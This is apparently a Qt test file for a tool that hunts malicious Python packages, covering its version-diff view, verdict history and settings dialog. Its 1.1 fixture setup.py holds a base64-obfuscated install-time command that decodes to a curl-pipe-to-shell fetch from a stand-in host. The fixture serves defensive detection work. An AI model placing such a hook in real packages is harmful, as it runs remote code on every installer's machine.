// The workbench with a history, offscreen: two versions of one project in a batch (written as sdists): the newer
// one's "Compare with previous version" is enabled, opens the side-by-side diff of its install script and of the file
// it runs, and the explanation lists the calls added since the earlier version; a project with one version leaves
// the action disabled. Then two demo runs with a verdict given in the case pane between them: the verdict is in the
// history, and the second run's explanation says "judged malicious by you". Screenshots, when MPH_SCREENSHOT_DIR is
// set: version-diff.png and judged-by-you.png there.
#include "../corpus/archive_builder.h"
#include "case_widget.h"
#include "code_compare_widget.h"
#include "main_window.h"
#include "ranked_table_widget.h"
#include "settings_dialog.h"
#include "version_diff_widget.h"

#include <QAction>
#include <QCheckBox>
#include <QComboBox>
#include <QDir>
#include <QDockWidget>
#include <QFile>
#include <QLabel>
#include <QLineEdit>
#include <QSettings>
#include <QSignalSpy>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBrowser>
#include <Qsci/qsciscintilla.h>

using namespace mph::app;

namespace {

std::string sdist(const std::string &version, const std::string &setup, const std::string &build) {
    const std::string root = "evilproj-" + version + "/";
    return mph::test::buildArchive(
        mph::test::Format::TarGz,
        {mph::test::file(root + "PKG-INFO", "Metadata-Version: 2.1\nName: evilproj\nVersion: " + version + "\n"),
         mph::test::file(root + "setup.py", setup), mph::test::file(root + "evilproj/_build.py", build),
         mph::test::file(root + "evilproj/__init__.py", "VERSION = '" + version + "'\n")});
}

const char *const kSetupBefore = "import os\n"
                                 "from setuptools import setup\n\n"
                                 "here = os.path.dirname(__file__)\n"
                                 "exec(open('evilproj/_build.py').read())\n\n"
                                 "setup(\n"
                                 "    name='evilproj',\n"
                                 "    version='1.0',\n"
                                 "    description='Small helpers for build scripts',\n"
                                 "    packages=['evilproj'],\n"
                                 "    python_requires='>=3.8',\n"
                                 "    classifiers=['Programming Language :: Python :: 3'],\n"
                                 ")\n";
const char *const kSetupAfter = "import os\n"
                                "import base64\n"
                                "from setuptools import setup\n\n"
                                "here = os.path.dirname(__file__)\n"
                                "exec(open('evilproj/_build.py').read())\n"
                                "os.system(base64.b64decode('Y3VybCBodHRwOi8veC5pbnZhbGlkL2kgfCBzaA==').decode())\n\n"
                                "setup(\n"
                                "    name='evilproj',\n"
                                "    version='1.1',\n"
                                "    description='Small helpers for build scripts',\n"
                                "    packages=['evilproj'],\n"
                                "    python_requires='>=3.8',\n"
                                ")\n";
const char *const kBuildBefore = "import platform\n\nBUILD_INFO = platform.python_version()\n";
const char *const kBuildAfter = "import platform\nimport socket\n\nBUILD_INFO = platform.python_version()\n"
                                "HOST = socket.gethostname()\n";

bool write(const QString &path, const std::string &bytes) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes.data(), qint64(bytes.size())) == qint64(bytes.size());
}

bool settle(MainWindow &window, const std::function<void()> &start) {
    QSignalSpy settled(&window, &MainWindow::runSettled);
    start();
    return settled.wait(240000) && settled[0][0].toBool();
}

int rowOf(const mph::ScanResult &scan, const std::string &name, const std::string &version, mph::Scope scope) {
    for (std::size_t i = 0; i < scan.ranking.size(); ++i) {
        const mph::ScriptEntry &entry = scan.scripts[scan.ranking[i].entry];
        const mph::Package &package = scan.packages[entry.package];
        if (package.name == name && package.version == version && entry.scope == scope) return int(i);
    }
    return -1;
}

} // namespace

class TestVersionDiff : public QObject {
    Q_OBJECT
  private slots:
    void initTestCase() {
        QStandardPaths::setTestModeEnabled(true);
        QCoreApplication::setOrganizationName(QStringLiteral("MPHunterTest"));
        QCoreApplication::setApplicationName(QStringLiteral("tst_version_diff"));
        QSettings().clear();
        QVERIFY(dir_.isValid());
    }

    void compareWithPreviousVersion() {
        const QString batch = dir_.filePath(QStringLiteral("batch"));
        QVERIFY(QDir().mkpath(batch));
        QVERIFY(write(batch + QStringLiteral("/evilproj-1.0.tar.gz"), sdist("1.0", kSetupBefore, kBuildBefore)));
        QVERIFY(write(batch + QStringLiteral("/evilproj-1.1.tar.gz"), sdist("1.1", kSetupAfter, kBuildAfter)));
        MainWindow window;
        WorkbenchSettings settings;
        settings.historyPath = dir_.filePath(QStringLiteral("diff-history.sqlite"));
        settings.analystName = QStringLiteral("ana");
        window.applySettings(settings);
        window.resize(1400, 900);
        window.show();
        QVERIFY(settle(window, [&] { window.openBatchFolder(batch); }));
        const mph::ScanResult &scan = *window.scan();

        QSignalSpy loaded(&window, &MainWindow::earlierVersionLoaded);
        const int oldRow = rowOf(scan, "evilproj", "1.0", mph::Scope::Install);
        QVERIFY(oldRow >= 0);
        window.table()->setCurrentRankingIndex(oldRow);
        QVERIFY(!window.compareVersionsAction()->isEnabled()); // 1.0 has no earlier version

        const int newRow = rowOf(scan, "evilproj", "1.1", mph::Scope::Install);
        QVERIFY(newRow >= 0);
        window.table()->setCurrentRankingIndex(newRow);
        QVERIFY(window.compareVersionsAction()->isEnabled());
        QCOMPARE(window.earlierVersion()->version, QStringLiteral("1.0"));
        QVERIFY(loaded.wait(30000));
        const ExplanationExtras &extras = window.explanationExtras();
        QVERIFY2(extras.compared, qPrintable(extras.earlierProblem));
        QVERIFY(!extras.callsAdded.isEmpty());
        auto *explanation = window.findChild<QTextBrowser *>();
        QVERIFY(explanation);
        QVERIFY(explanation->toPlainText().contains(QStringLiteral("Calls added since 1.0")));

        window.compareVersionsAction()->trigger();
        VersionDiffWidget *diff = window.versionDiff();
        QVERIFY(diff && diff->isVisible());
        QCOMPARE(diff->files()->count(), 2); // setup.py and the file it runs
        QCOMPARE(diff->files()->itemText(0), QStringLiteral("setup.py"));
        QCOMPARE(diff->files()->itemText(1), QStringLiteral("evilproj/_build.py"));
        QVERIFY(diff->diff().added >= 2);
        QCOMPARE(diff->leftEditor()->lines(), diff->rightEditor()->lines()); // aligned row for row
        QVERIFY(diff->summary()->text().contains(u'+'));
        diff->showFile(1);
        QCOMPARE(diff->diff().added, 2);
        diff->showFile(0);
        QTest::qWait(50);
        if (qEnvironmentVariableIsSet("MPH_SCREENSHOT_DIR")) // a picture for whoever asks, nowhere by default
            QVERIFY(diff->grab().save(qEnvironmentVariable("MPH_SCREENSHOT_DIR") + "/version-diff.png"));
    }

    void verdictInTheCasePaneTeachesTheNextRun() {
        MainWindow window;
        WorkbenchSettings settings;
        settings.historyPath = dir_.filePath(QStringLiteral("demo-history.sqlite"));
        settings.analystName = QStringLiteral("ana");
        window.applySettings(settings);
        window.resize(1600, 1000);
        window.show();
        QVERIFY(settle(window, [&] { window.openDemo(); }));
        QVERIFY(window.runHistory() && window.runHistory()->problem.isEmpty());
        window.table()->setCurrentRankingIndex(0);
        const mph::ScanResult &first = *window.scan();
        const std::string judged = first.packages[first.scripts[first.ranking[0].entry].package].sha256;
        window.caseWidget()->setVerdict(Verdict::Malicious);
        {
            QString problem;
            const auto history = HistoryDatabase::open(settings.historyPath, &problem);
            QVERIFY2(history, qPrintable(problem));
            const auto verdict = history->latestVerdict(QString::fromStdString(judged));
            QVERIFY(verdict && verdict->verdict == Verdict::Malicious);
            QCOMPARE(verdict->analyst, QStringLiteral("ana"));
        }

        QVERIFY(settle(window, [&] { window.openDemo(); }));
        QCOMPARE(window.runHistory()->newPackages, 0);
        const mph::ScanResult &second = *window.scan();
        int row = -1, neighbour = -1;
        for (std::size_t i = 0; i < second.ranking.size() && row < 0; ++i)
            for (std::size_t k = 0; k < second.ranking[i].nearestKnown.size(); ++k)
                if (second.packageRemembered[second.scripts[second.ranking[i].nearestKnown[k]].package]) {
                    row = int(i);
                    neighbour = int(k);
                    break;
                }
        QVERIFY(row >= 0);
        window.table()->setCurrentRankingIndex(row);
        window.code()->setCurrentNeighbour(neighbour);
        auto *explanation = window.findChild<QTextBrowser *>();
        QVERIFY(explanation->toPlainText().contains(QStringLiteral("judged malicious by you on")));
        if (auto *dock = qobject_cast<QDockWidget *>(explanation->parentWidget())) dock->raise();
        QTest::qWait(50);
        if (qEnvironmentVariableIsSet("MPH_SCREENSHOT_DIR"))
            QVERIFY(window.grab().save(qEnvironmentVariable("MPH_SCREENSHOT_DIR") + "/judged-by-you.png"));
    }

    // The history settings: defaults, kept in QSettings, edited in the dialog.
    void historySettings() {
        QSettings qsettings;
        qsettings.clear();
        WorkbenchSettings settings = WorkbenchSettings::load(qsettings);
        QCOMPARE(settings.historyPath, HistoryDatabase::defaultPath());
        QVERIFY(settings.historyFeedback);
        QVERIFY(!settings.analystName.isEmpty());
        settings.historyPath = dir_.filePath(QStringLiteral("elsewhere.sqlite"));
        settings.historyFeedback = false;
        settings.analystName = QStringLiteral("ana");
        settings.save(qsettings);
        const WorkbenchSettings back = WorkbenchSettings::load(qsettings);
        QCOMPARE(back.historyPath, settings.historyPath);
        QCOMPARE(back.historyFeedback, false);
        QCOMPARE(back.analystName, QStringLiteral("ana"));

        SettingsDialog dialog(back);
        auto *feedback = dialog.findChild<QCheckBox *>();
        QVERIFY(feedback && !feedback->isChecked());
        QCOMPARE(feedback->text(), QStringLiteral("Verdicts teach the next run"));
        feedback->setChecked(true);
        for (QLineEdit *edit : dialog.findChildren<QLineEdit *>())
            if (edit->text() == settings.historyPath) edit->clear(); // empty: back to the default file
        const WorkbenchSettings edited = dialog.settings();
        QVERIFY(edited.historyFeedback);
        QCOMPARE(edited.historyPath, HistoryDatabase::defaultPath());
        QCOMPARE(edited.analystName, QStringLiteral("ana"));
        dialog.show();
        QTest::qWait(20);
        if (qEnvironmentVariableIsSet("MPH_SCREENSHOT_DIR"))
            QVERIFY(dialog.grab().save(qEnvironmentVariable("MPH_SCREENSHOT_DIR") + "/settings-history.png"));
        qsettings.clear();
    }

  private:
    QTemporaryDir dir_;
};

QTEST_MAIN(TestVersionDiff)
#include "tst_version_diff.moc"
